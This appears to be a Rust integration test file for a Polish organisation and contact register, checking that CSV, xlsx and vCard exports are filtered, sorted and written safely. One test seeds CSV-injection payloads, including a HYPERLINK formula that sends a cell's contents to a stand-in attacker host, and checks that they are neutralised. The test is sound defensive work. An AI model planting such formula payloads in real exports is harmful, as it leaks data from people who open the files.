//! Lists out of the register through the core, into real files: the Excel-flavoured CSV,
//! .xlsx and vCard, filtered and ordered as in the window, and nothing half-written on error.

use crate::util::{fresh, org, save_org, save_person};
use kartoteka_core::export::ExportFormat;
use kartoteka_core::register::{
    OrganizationQuery, OrganizationSort, PersonInput, PersonQuery, RoleInput,
};

#[tokio::test]
async fn organisations_export_as_the_window_lists_them() {
    let db = fresh().await;
    for (i, (name, city, form)) in [
        ("Żuraw", "Żory", "fundacja"),
        ("Łabędź", "Łódź", "fundacja"),
        ("Lis", "Leszno", "fundacja"),
        ("Sowa", "Sopot", "stowarzyszenie"),
    ]
    .into_iter()
    .enumerate()
    {
        let mut input = org(&format!("Fundacja {name}"), city);
        input.legal_form = form.into();
        input.krs = format!("5432{i}");
        input.postal_code = "00-950".into();
        input.emails = format!(
            "biuro@{}.pl",
            name.to_lowercase().replace(['ż', 'ł', 'ę', 'ź'], "z")
        );
        save_org(&db.k, &input).await;
    }
    let out = db.dir.path().join("organizacje.csv");
    let query = OrganizationQuery {
        legal_form: Some("fundacja".into()),
        sort: OrganizationSort::Name,
        ..Default::default()
    };
    let summary =
        db.k.export_organizations(&query, ExportFormat::CsvExcel, &out)
            .await
            .unwrap();
    assert_eq!(summary.rows, 3);
    let bytes = std::fs::read(&out).unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "BOM for Polish Excel");
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    let lines: Vec<&str> = text.split("\r\n").filter(|l| !l.is_empty()).collect();
    assert!(
        lines[0].starts_with("Nazwa;Nazwa skrócona;Forma prawna;KRS;NIP;REGON;OPP;"),
        "{}",
        lines[0]
    );
    let names: Vec<&str> = lines[1..]
        .iter()
        .map(|l| l.split(';').next().unwrap())
        .collect();
    assert_eq!(
        names,
        vec!["Fundacja Lis", "Fundacja Łabędź", "Fundacja Żuraw"],
        "Polish order, filter applied"
    );
    assert!(
        lines[1].contains(";0000054322;"),
        "KRS keeps its zeros: {}",
        lines[1]
    );
    assert!(lines[1].contains(";00-950;"));

    let plain = db.dir.path().join("plain.csv");
    db.k.export_organizations(&OrganizationQuery::default(), ExportFormat::Csv, &plain)
        .await
        .unwrap();
    let text = std::fs::read_to_string(&plain).unwrap();
    assert!(text.starts_with("Nazwa,Nazwa skrócona,"));
    assert_eq!(text.lines().count(), 5);

    let xlsx = db.dir.path().join("organizacje.xlsx");
    db.k.export_organizations(&OrganizationQuery::default(), ExportFormat::Xlsx, &xlsx)
        .await
        .unwrap();
    let bytes = std::fs::read(&xlsx).unwrap();
    assert!(
        bytes.starts_with(b"PK") && bytes.len() > 4000,
        "an xlsx (zip) file"
    );
}

#[tokio::test]
async fn people_export_as_vcards_and_errors_write_nothing() {
    let db = fresh().await;
    let org_id = save_org(&db.k, &org("Stowarzyszenie Pomost", "Toruń")).await;
    for (first, last) in [("Łucja", "Żak"), ("Jan", "Nowak")] {
        save_person(
            &db.k,
            &PersonInput {
                first_name: first.into(),
                last_name: last.into(),
                emails: format!("{}@o2.pl", first.to_lowercase().replace('ł', "l")),
                roles: vec![RoleInput {
                    organization_id: org_id,
                    role: "wolontariusz".into(),
                }],
                ..Default::default()
            },
        )
        .await;
    }
    let vcf = db.dir.path().join("osoby.vcf");
    let summary =
        db.k.export_people(&PersonQuery::default(), ExportFormat::Vcf, &vcf)
            .await
            .unwrap();
    assert_eq!(summary.rows, 2);
    let text = std::fs::read_to_string(&vcf).unwrap();
    assert_eq!(text.matches("BEGIN:VCARD\r\n").count(), 2);
    assert!(text.contains("N:Nowak;Jan;;;\r\n") && text.contains("N:Żak;Łucja;;;\r\n"));
    assert!(text.contains("ORG:Stowarzyszenie Pomost\r\n"));
    assert!(
        text.find("Nowak").unwrap() < text.find("Żak").unwrap(),
        "Polish order"
    );

    let refused = db.dir.path().join("organizacje.vcf");
    assert!(db
        .k
        .export_organizations(&OrganizationQuery::default(), ExportFormat::Vcf, &refused)
        .await
        .is_err());
    assert!(!refused.exists());
    let nowhere = db.dir.path().join("brak-folderu").join("osoby.csv");
    let err =
        db.k.export_people(&PersonQuery::default(), ExportFormat::CsvExcel, &nowhere)
            .await
            .unwrap_err();
    assert!(err.to_string().contains("nie istnieje"), "{err}");
    let leftovers: Vec<_> = std::fs::read_dir(db.dir.path())
        .unwrap()
        .filter_map(|e| e.ok())
        .filter(|e| e.file_name().to_string_lossy().ends_with(".tmp"))
        .collect();
    assert!(leftovers.is_empty());
}

/// OWASP "CSV injection": names an attacker (or a careless import) put in the register must not
/// become formulas when the office opens the export in Excel.
#[tokio::test]
async fn excel_csv_neutralises_formulas_and_xlsx_keeps_them_as_text() {
    let db = fresh().await;
    let names = [
        "=2+3",
        "@SUM(1+1)",
        "+1",
        "-1",
        "\t=x",
        "=HYPERLINK(\"http://zly.example/?\"&A1)",
    ];
    for name in names {
        save_org(&db.k, &org(name, "Łódź")).await;
    }
    save_person(
        &db.k,
        &PersonInput {
            first_name: "Anna".into(),
            last_name: "=1+1".into(),
            phones: "+48 600 100 200".into(),
            ..Default::default()
        },
    )
    .await;

    let csv = db.dir.path().join("organizacje.csv");
    db.k.export_organizations(&OrganizationQuery::default(), ExportFormat::CsvExcel, &csv)
        .await
        .unwrap();
    let bytes = std::fs::read(&csv).unwrap();
    let mut reader = csv_reader(&bytes[3..], b';');
    let first_cells: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[0].to_string())
        .collect();
    assert_eq!(first_cells.len(), names.len());
    // The tab of "\t=x" is trimmed on save (names are one line); "=x" is still neutralised.
    for cell in &first_cells {
        assert!(
            cell.starts_with('\''),
            "a cell Excel would evaluate: {cell:?}"
        );
    }
    for expected in ["'=2+3", "'@SUM(1+1)", "'+1", "'-1", "'=x"] {
        assert!(
            first_cells.iter().any(|c| c == expected),
            "{expected} in {first_cells:?}"
        );
    }
    let people = db.dir.path().join("osoby.csv");
    db.k.export_people(&PersonQuery::default(), ExportFormat::CsvExcel, &people)
        .await
        .unwrap();
    let text = String::from_utf8(std::fs::read(&people).unwrap()[3..].to_vec()).unwrap();
    assert!(
        text.contains("'=1+1;Anna;") && text.contains(";'+48 600 100 200;"),
        "{text}"
    );

    // Plain CSV is for programs: the register's text exactly (README, "Eksportuj").
    let plain = db.dir.path().join("plain.csv");
    db.k.export_organizations(&OrganizationQuery::default(), ExportFormat::Csv, &plain)
        .await
        .unwrap();
    let bytes = std::fs::read(&plain).unwrap();
    let plain_cells: Vec<String> = csv_reader(&bytes, b',')
        .records()
        .map(|r| r.unwrap()[0].to_string())
        .collect();
    assert!(plain_cells.iter().any(|c| c == "=2+3"), "{plain_cells:?}");

    // The .xlsx writes every value as a string cell: no formula element anywhere in the sheet.
    let xlsx = db.dir.path().join("organizacje.xlsx");
    db.k.export_organizations(&OrganizationQuery::default(), ExportFormat::Xlsx, &xlsx)
        .await
        .unwrap();
    let mut zip = zip::ZipArchive::new(std::fs::File::open(&xlsx).unwrap()).unwrap();
    let mut sheet = String::new();
    std::io::Read::read_to_string(
        &mut zip.by_name("xl/worksheets/sheet1.xml").unwrap(),
        &mut sheet,
    )
    .unwrap();
    assert!(
        !sheet.contains("<f>") && !sheet.contains("<f "),
        "a formula cell in the export"
    );
    let read = kartoteka_core::import::read::read_sheet(&xlsx, None).unwrap();
    let texts: Vec<String> = read
        .rows
        .iter()
        .skip(1)
        .map(|r| r.cells[0].display())
        .collect();
    assert!(
        texts.iter().any(|t| t == "=2+3") && texts.iter().any(|t| t == "@SUM(1+1)"),
        "{texts:?}"
    );
    assert!(read
        .rows
        .iter()
        .skip(1)
        .all(|r| matches!(r.cells[0], kartoteka_core::import::read::Cell::Text(_))));

    // And the Excel CSV imports back unchanged: the apostrophe comes off.
    let again = crate::util::fresh().await;
    again
        .k
        .import(
            &csv,
            &kartoteka_core::import::ImportOptions::default(),
            false,
            None,
            std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false)),
        )
        .await
        .unwrap();
    let round = again.dir.path().join("round.csv");
    again
        .k
        .export_organizations(&OrganizationQuery::default(), ExportFormat::Csv, &round)
        .await
        .unwrap();
    let bytes = std::fs::read(&round).unwrap();
    let back: Vec<String> = csv_reader(&bytes, b',')
        .records()
        .map(|r| r.unwrap()[0].to_string())
        .collect();
    // ("+1" and "-1" fold to the same name, so the import keeps one of them as a duplicate.)
    for name in ["=2+3", "@SUM(1+1)", "-1", "=x"] {
        assert!(back.iter().any(|b| b == name), "{name} in {back:?}");
    }
    assert!(back.iter().all(|b| !b.starts_with('\'')), "{back:?}");
}

fn csv_reader(bytes: &[u8], delimiter: u8) -> csv::Reader<&[u8]> {
    csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .from_reader(bytes)
}
